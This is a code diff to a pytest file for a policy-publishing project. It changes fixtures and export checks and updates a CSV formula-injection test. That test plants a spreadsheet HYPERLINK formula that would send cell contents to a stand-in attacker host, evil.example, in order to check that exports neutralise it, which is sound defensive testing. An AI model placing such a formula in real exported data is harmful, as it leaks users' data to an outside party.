@@ -10,7 +10,7 @@ from pathlib import Path
 import jsonschema
 import pytest
 
-from conftest import ROOT, copy_project
+from conftest import ROOT, copy_seed_project
 from policypress.load.loader import load_project
 from policypress.project import Project, ProjectLayout
 from policypress.render.exports import SCHEMAS, export_files
@@ -19,8 +19,9 @@ NESTED = ROOT / "tests" / "fixtures" / "nested"
 
 
 @pytest.fixture(scope="module")
-def project() -> Project:
-    return load_project(ProjectLayout(ROOT))
+def project(seed_project: Path) -> Project:
+    """The repository reduced to the seed: the site-wide exports (codes, references) hold the seed's alone."""
+    return load_project(ProjectLayout(seed_project))
 
 
 @pytest.fixture(scope="module")
@@ -104,9 +105,16 @@ def test_exports_are_deterministic(project: Project, files: dict[str, str]) -> N
     assert export_files(project, "policies") == files
 
 
-def test_the_built_site_publishes_the_exports(built_site: Path, files: dict[str, str]) -> None:
+def assert_published(site: Path, project: Project) -> None:
+    """``site`` holds every export of ``project``, byte for byte."""
+    files = export_files(project, "policies")
+    assert "api/policies.json" in files
     for relative, content in files.items():
-        assert (built_site / relative).read_bytes() == content.encode("utf-8"), relative
+        assert (site / relative).read_bytes() == content.encode("utf-8"), relative
+
+
+def test_the_built_site_publishes_the_exports(built_site: Path) -> None:
+    assert_published(built_site, load_project(ProjectLayout(ROOT)))
 
 
 def test_references_export_holds_each_listed_reference_once(files: dict[str, str]) -> None:
@@ -118,7 +126,7 @@ def test_references_export_holds_each_listed_reference_once(files: dict[str, str
 
 
 def test_csv_cells_never_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
-    root = copy_project(tmp_path / "project")
+    root = copy_seed_project(tmp_path / "project")
     policy = root / "policy" / "wa-cp-mp-166.yaml"
     text = policy.read_text(encoding="utf-8").replace(
         "Radiofrequency ablation, nerves", '=HYPERLINK("https://evil.example/?x="&A1,"Click") *Radiofrequency* ablation'
